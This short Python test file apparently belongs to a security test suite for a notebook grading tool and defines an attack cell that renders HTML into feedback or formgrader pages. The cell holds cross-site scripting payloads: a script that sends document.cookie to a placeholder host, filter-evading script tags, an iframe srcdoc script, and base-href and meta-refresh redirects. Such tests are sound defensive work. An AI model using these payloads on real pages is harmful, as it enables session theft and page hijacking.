"""Shows HTML with a script in it, for whoever opens the feedback or formgrader."""

from tests.attacks import Attack

attack = Attack(
    gains="page",
    cell="""
from IPython.display import HTML, display
display(HTML("<script>location='//example.org?' + document.cookie</script>"))
display(HTML("<scr<script>ipt>alert(1)</scr</script>ipt><ScRiPt/src=//example.org></sCrIpT>"))
display(HTML("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><base href='//example.org'><meta http-equiv=refresh content='0;//example.org'>"))
""",
)
